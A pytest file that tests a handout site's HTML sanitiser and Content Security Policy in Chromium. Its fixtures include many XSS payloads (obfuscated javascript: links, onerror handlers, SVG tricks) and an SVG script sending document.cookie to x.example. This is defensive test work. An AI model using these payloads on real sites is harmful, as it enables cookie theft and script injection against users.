"""Raw HTML in content: what a clinician may paste is checked line by line, and the site's policy holds in Chromium."""

from __future__ import annotations

import http.server
import threading
from collections import Counter
from contextlib import chdir
from pathlib import Path

import pytest

from handouts.cli import main
from handouts.content.untrusted import Finding, lines_of, refused_html
from handouts.render.csp import content_security_policy

from .conftest import fetch_when_ready

FIRST = 11  # the file line the body starts on, as after a ten-line front matter
YOUTUBE = (
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=abc" '
    'title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; encrypted-media" '
    'referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>'
)

# name: (body, [(line in the body from 1, words in the message)])
REFUSED = {
    "youtube embed": (f"1. Lie down.\n\n{YOUTUBE}\n", [(3, "'video: https://www.youtube.com/watch?v=dQw4w9WgXcQ'")]),
    "script": ("Text.\n\n<script>alert(1)</script>\n", [(3, "raw HTML <script> is not allowed")]),
    "script in a list item": ("1. Lie down <script>alert(1)</script>\n", [(1, "<script>")]),
    "script inside svg": ("<svg><script>alert(1)</script></svg>\n", [(1, "<script>")]),
    "object": ('<object data="https://x.example/a.swf"></object>\n', [(1, "raw HTML <object>")]),
    "embed": ('Watch:\n<embed src="https://x.example/a.swf">\n', [(2, "raw HTML <embed>")]),
    "form with an input": (
        'Tell us:\n\n<form action="https://x.example/">\n<input name="pain">\n</form>\n',
        [(3, "raw HTML <form> is not allowed: handouts have no forms"), (4, "raw HTML <input>")],
    ),
    "button": ("<button>Start</button>\n", [(1, "raw HTML <button>")]),
    "textarea": ("<textarea>notes</textarea>\n", [(1, "raw HTML <textarea>")]),
    "select": ("<select><option>1</option></select>\n", [(1, "raw HTML <select>")]),
    "style block": ("<style>body { background: red }</style>\n", [(1, "raw HTML <style>")]),
    "style with url()": ('<p style="background: url(https://x.example/a.png)">Hi</p>\n', [(1, "url(…)")]),
    "style with escaped url()": ('<p style="background: \\75 rl(a.png)">Hi</p>\n', [(1, "url(…)")]),
    "style with image-set()": ('<p style=\'background: image-set("a.png" 1x)\'>Hi</p>\n', [(1, "url(…)")]),
    "link": ('<link rel="stylesheet" href="https://x.example/a.css">\n', [(1, "raw HTML <link>")]),
    "meta refresh": ('<meta http-equiv="refresh" content="0; url=https://x.example/">\n', [(1, "raw HTML <meta>")]),
    "base": ('<base href="https://x.example/">\n', [(1, "raw HTML <base>")]),
    "onerror": ('<img src="images/a.png" alt="" onerror="alert(1)">\n', [(1, "onerror= is not allowed")]),
    "upper-case onerror": ("Text\n\n<IMG SRC=a.png ONERROR=alert(1)>\n", [(3, "onerror=")]),
    "onclick from an attribute list": ('Tap here\n{: onclick="alert(1)" }\n', [(2, "onclick=")]),
    "onload on a heading": ('## Tips\n\n<h3 onmouseover="x()">More</h3>\n', [(3, "onmouseover=")]),
    "javascript: Markdown link": ("[Tap here](javascript:alert(1))\n", [(1, "the link javascript:alert(1)")]),
    "javascript: in mixed case": ('<a href=" JaVaScRiPt:alert(1)">x</a>\n', [(1, "is not allowed: a link must go")]),
    "javascript: as entities": ('<a href="&#106;avascript:alert(1)">x</a>\n', [(1, "the link javascript:")]),
    "javascript: with a tab": ('<a href="java&#9;script:alert(1)">x</a>\n', [(1, "the link java\tscript:")]),
    "data: link": ("[x](data:text/html;base64,PHNjcmlwdD4=)\n", [(1, "the link data:")]),
    "vbscript: link": ('<a href="vbscript:msgbox(1)">x</a>\n', [(1, "the link vbscript:")]),
    "svg xlink:href": ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n', [(1, "the link")]),
    "svg animate of href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>\n',
        [(1, "raw HTML <animate> of a link")],
    ),
    "svg use from another host": ('<svg><use href="https://x.example/s.svg#a"/></svg>\n', [(1, "href=https://")]),
    "img from another host": ('<img src="https://x.example/a.png" alt="A stretch">\n', [(1, "the picture https://")]),
    "img protocol-relative": ('<img src="//x.example/a.png" alt="">\n', [(1, "the picture //x.example/a.png")]),
    "img backslashes": ('<img src="\\\\x.example\\a.png" alt="">\n', [(1, "the picture")]),
    "img data:": ('<img src="data:image/png;base64,iVBORw0KGgo=" alt="">\n', [(1, "the picture data:")]),
    "srcset": ('<img src="a.png" srcset="a.png 1x, https://x.example/b.png 2x" alt="">\n', [(1, "the picture")]),
    "video poster": ('<video src="clip.mp4" poster="https://x.example/p.jpg"></video>\n', [(1, "poster=https://")]),
    "video from another host": (
        '<video src="https://x.example/clip.mp4" controls></video>\n',
        [(1, "[Watch the video](https://x.example/clip.mp4)")],
    ),
    "audio source": ('<audio controls>\n<source src="https://x.example/a.mp3">\n</audio>\n', [(2, "src=https://")]),
    "table background": ('<table background="https://x.example/b.png"><tr><td>1</td></tr></table>\n',
                         [(1, "background=https://")]),
    "link ping": ('<a href="https://x.example/" ping="https://tracker.example/">x</a>\n', [(1, "ping=https://")]),
    "Markdown image": ("1. Lie down.\n\n![A stretch](https://x.example/a.png)\n", [(3, "images/a.png")]),
    "Markdown image by reference": ("![A stretch][pic]\n\n[pic]: https://x.example/a.png\n", [(3, "the picture")]),
    "iframe over three lines": (
        'Intro.\n\n<div>\n<iframe\n  src="https://player.example/v/1"\n  allowfullscreen></iframe>\n</div>\n',
        [(4, "[Watch the video](https://player.example/v/1)")],
    ),
    "the same iframe twice": ("<iframe src=a></iframe>\n\nText.\n\n<iframe src=a></iframe>\n",
                              [(1, "<iframe>"), (5, "<iframe>")]),
    "twice on one line": ("<script>1</script> and <script>1</script>\n", [(1, "<script>"), (1, "<script>")]),
    "quoted in code above, pasted below": (
        "Do not paste:\n\n```\n<iframe src=a></iframe>\n```\n\n<iframe src=a></iframe>\n", [(7, "<iframe>")],
    ),
    "pasted above, quoted in code below": (
        "<iframe src=a></iframe>\n\nNot `<iframe src=a></iframe>` either.\n", [(1, "<iframe>")],
    ),
}

ALLOWED = {
    "code span": "Do not type `<b>` or `<script>alert(1)</script>` here.\n",
    "fenced code": "```html\n<script>alert(1)</script>\n<iframe src=\"https://x.example/\"></iframe>\n```\n",
    "tilde fence": "~~~\n<img src=\"https://x.example/a.png\" onerror=\"x()\">\n~~~\n",
    "indented code": "Text.\n\n    <script>alert(1)</script>\n",
    "link out": '<a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">Watch the video</a>\n',
    "Markdown link out": "[Watch the video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)\n",
    "autolink": "<https://www.example.org/stretches>\n",
    "mail and phone": "[Write to us](mailto:desk@example.org) or [call](tel:+15550100).\n",
    "page of this site": "[Open books](../open-books/) and [the top](#steps).\n",
    "local picture": '![A stretch](images/a.png)\n\n<img src="images/a.png" srcset="images/b.png 2x" alt="A">\n',
    "local video": '<video src="clip.mp4" poster="images/p.jpg" controls></video>\n',
    "plain HTML": "<b>Slowly</b>, <em>gently</em><br>\n\n<details><summary>Why</summary>Because.</details>\n",
    "a style without url()": '<p style="color: #1f5f8b">Hi</p>\n',
    "comment": "<!-- <script>alert(1)</script> -->\n",
    "text that looks like code": "Keep the angle < 90 and > 45. javascript: is a language. Use {curly} words.\n",
    "svg drawn in the page": '<svg viewBox="0 0 4 4"><a href="#steps"><circle r="2"/></a></svg>\n',
}


@pytest.mark.parametrize("name", REFUSED)
def test_refused(name: str):
    body, expected = REFUSED[name]
    problems = refused_html(body, "content/exercises/x.md", FIRST)
    assert [p.line for p in problems] == [FIRST + line - 1 for line, _ in expected], problems
    lines = body.split("\n")
    for problem, (line, words) in zip(problems, expected, strict=True):
        assert words in problem.message
        assert problem.path == "content/exercises/x.md"
        assert problem.excerpt == lines[line - 1]


@pytest.mark.parametrize("name", ALLOWED)
def test_allowed(name: str):
    assert refused_html(ALLOWED[name], "content/index.md", 1) == []


def test_a_pasted_embed_code_is_explained_in_plain_words():
    [problem] = refused_html(YOUTUBE, "content/exercises/x.md", 5)
    assert str(problem) == (
        "content/exercises/x.md:5: raw HTML <iframe> is not allowed: pages may not load anything from another "
        "website; put the video in the front matter instead: 'video: https://www.youtube.com/watch?v=dQw4w9WgXcQ' "
        "(the page loads it only when played)"
        f"\n    {YOUTUBE}"
    )


def test_a_thing_no_single_line_holds_is_still_reported_at_its_first_clue():
    finding = Finding(("element", "iframe", ()), "raw HTML <iframe> is not allowed", ("<iframe",))
    never_gone = lambda index: Counter({finding.key: 2})  # noqa: E731
    assert lines_of(finding, 2, ["Text.", "", "<iframe src=a>", "</iframe>"], never_gone) == [2, 2]


def add_to(path: Path, text: str) -> int:
    """Append text to a content file; return the file line the text starts on."""
    before = path.read_text()
    path.write_text(before.rstrip("\n") + "\n\n" + text)
    return len(before.rstrip("\n").split("\n")) + 2


def test_check_names_every_file_and_line(project: Path, capsys):
    content = project / "content"
    pasted = content / "exercises/side-turns.md"  # in no program, so no program reports it too
    pasted.write_text((content / "exercises/open-books.md").read_text())
    embed = add_to(pasted, f"Watch how:\n\n{YOUTUBE}\n")
    script = add_to(content / "programs/upper-back-pain.md", "<script>alert(1)</script>\n")
    picture = add_to(content / "index.md", "![Our clinic](https://x.example/clinic.jpg)\n")
    (content / "about.md").write_text("# About us\n\nCall us.\n{: onclick=\"alert(1)\" }\n")
    with chdir(project):
        assert main(["check"]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert lines[-1] == "4 problems found."
    assert f"content/exercises/side-turns.md:{embed + 2}: raw HTML <iframe> is not allowed" in lines[2]
    assert lines[3].strip() == YOUTUBE
    assert "content/about.md:4: the attribute onclick= is not allowed" in "\n".join(lines)
    assert f"content/index.md:{picture}: the picture https://x.example/clinic.jpg" in "\n".join(lines)
    assert f"content/programs/upper-back-pain.md:{script}: raw HTML <script>" in "\n".join(lines)


def test_pages_in_subfolders_and_svg_pictures_are_checked_too(project: Path, capsys):
    content = project / "content"
    (content / "help").mkdir()
    (content / "help/index.md").write_text("# Help\n\n<iframe src=\"https://x.example/v\"></iframe>\n")
    (content / "images").mkdir()
    (content / "images/logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4">\n'
        '  <rect width="4" height="4"/>\n  <script>fetch("https://x.example/?" + document.cookie)</script>\n</svg>\n'
    )
    (content / "images/fine.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><circle r="2"/></svg>\n')
    with chdir(project):
        assert main(["check"]) == 1
    err = capsys.readouterr().err
    assert "content/help/index.md:3: raw HTML <iframe> is not allowed" in err
    assert "content/images/logo.svg:3: in a picture, <script> is not allowed" in err
    assert "fine.svg" not in err
    assert err.splitlines()[-1] == "2 problems found."


def test_policy_allows_the_given_inline_scripts_by_hash():
    policy = content_security_policy(
        '<script>alert(1)</script><script type="application/json">{}</script><script src="a.js"></script>'
    )
    directives = dict(d.split(" ", 1) for d in policy.split("; "))
    # printf 'alert(1)' | openssl dgst -sha256 -binary | base64
    assert directives["script-src"] == "'self' 'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"
    assert directives["object-src"] == "'none'" and directives["form-action"] == "'none'"
    assert "frame-ancestors" not in directives  # a <meta> policy may not set it; Chromium logs an error


def test_live_preview_lets_mkdocs_reload_script_run():
    policy = content_security_policy("<script>alert(1)</script>", live_reload=True)
    assert "script-src 'self' 'unsafe-inline';" in policy  # no hash: a hash would switch 'unsafe-inline' off


def test_every_page_has_the_policy_before_any_script_or_style(built_site: Path):
    pages = list(built_site.rglob("*.html"))
    assert len(pages) >= 10
    for page in pages:
        text = page.read_text()
        assert text.count('http-equiv="Content-Security-Policy"') == 1, page
        policy = text.index('http-equiv="Content-Security-Policy"')
        for tag in ("<script", "<style", '<link rel="stylesheet"'):
            assert tag not in text[:policy], (page, tag)


# Each way a page could reach another website or run injected code, and the directive that stops it.
ATTACKS = {
    "img-src": "url => new Promise(done => { const i = new Image(); i.onload = i.onerror = done; "
               "i.src = url + 'x.png'; document.body.append(i); })",
    "connect-src": "url => fetch(url + 'data.json').then(() => 'loaded', () => 'blocked')",
    "frame-src": "url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }",
    "media-src": "url => { const v = document.createElement('video'); v.src = url + 'a.mp4'; "
                 "document.body.append(v); }",
    "font-src": "url => new FontFace('Elsewhere', `url(${url}a.woff2)`).load().catch(() => 'blocked')",
    "style-src-elem": "url => { const l = document.createElement('link'); l.rel = 'stylesheet'; "
                      "l.href = url + 'a.css'; document.head.append(l); }",
    "script-src-elem": "url => { const s = document.createElement('script'); s.src = url + 'a.js'; "
                       "document.body.append(s); }",
    "script-src-elem inline": "() => { const s = document.createElement('script'); "
                              "s.textContent = 'window.__ran = true'; document.body.append(s); }",
    "script-src-attr": "() => { const d = document.createElement('div'); d.setAttribute('onclick', "
                       "'window.__ran = true'); document.body.append(d); d.click(); }",
}
WATCH = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.effectiveDirective));
"""


@pytest.fixture
def elsewhere():
    """Another website: a server on another port, which records every request it gets."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/", asked
    httpd.shutdown()
    httpd.server_close()


def open_watched(browser, url: str, **options):
    """A page with its policy violations recorded from the first byte, and its console errors."""
    context = browser.new_context(**options)
    context.add_init_script(WATCH)
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(url)
    page.wait_for_load_state("networkidle")
    return context, page, errors


@pytest.mark.parametrize("attack", ATTACKS)
def test_policy_stops_the_page_reaching_elsewhere(browser, serve, built_site: Path, elsewhere, attack: str):
    url, asked = elsewhere
    context, page, errors = open_watched(browser, serve(built_site).url + "exercises/open-books/")
    try:
        page.evaluate(ATTACKS[attack], url)
        directive = attack.split()[0]
        page.wait_for_function("d => window.__violations.includes(d)", arg=directive)
        assert page.evaluate("window.__ran") is None
        assert asked == []
        assert all("Content Security Policy" in e for e in errors), errors
    finally:
        context.close()


def test_without_the_policy_the_same_picture_would_load(browser, serve, built_site: Path, elsewhere):
    """The control: the attack above, with the policy switched off, reaches the other server."""
    url, asked = elsewhere
    context, page, _ = open_watched(browser, serve(built_site).url + "exercises/open-books/", bypass_csp=True)
    try:
        page.evaluate(ATTACKS["img-src"], url)
        assert asked == ["/x.png"]
    finally:
        context.close()


PAGES = ["", "programs/", "programs/upper-back-pain/", "exercises/", "exercises/open-books/", "areas/upper-back/",
         "404.html"]


@pytest.mark.parametrize("prefix", ["/", "/clinic/"])
def test_site_breaks_no_rule_of_its_own_policy(browser, serve, built_site: Path, prefix: str):
    server = serve(built_site, prefix=prefix)
    pages = PAGES if prefix == "/" else PAGES[:-1]  # the 404 page is served from the site's root
    for path in pages:
        context, page, errors = open_watched(browser, server.url + path)
        try:
            assert page.evaluate("window.__violations") == [], path
            assert errors == [], path
        finally:
            context.close()


def test_search_works_under_the_policy(browser, serve, built_site: Path):
    """The search worker starts, and Enter in the search box (a form) opens the first result."""
    context, page, errors = open_watched(browser, serve(built_site).url)
    try:
        page.locator(".md-search__input").click()
        page.locator(".md-search__input").press_sequentially("open books")  # material reads keys, not fill()
        # the results follow the keys: wait for those of the whole query, not of "ope" (Enter opens the first)
        page.locator('.md-search-result__link[href$="?h=open+books"]').first.wait_for()
        assert page.evaluate("window.__violations") == []
        page.locator(".md-search__input").press("Enter")
        page.wait_for_url("**/exercises/open-books/?h=open+books")
        page.locator("h1", has_text="Open books").wait_for()
        assert page.evaluate("window.__violations") == []
        assert errors == []
    finally:
        context.close()


def test_live_preview_reloads_under_the_policy(browser, project: Path, preview):
    url = preview(project).url + "exercises/open-books/"
    context = browser.new_context()
    try:
        fetch_when_ready(url)
        context.add_init_script(WATCH)
        page = context.new_page()
        errors: list[str] = []
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        with page.expect_console_message(lambda m: m.text == "Enabled live reload"):  # mkdocs' inline script ran
            page.goto(url)
        assert page.evaluate("window.__violations") == [] and errors == []
    finally:
        context.close()
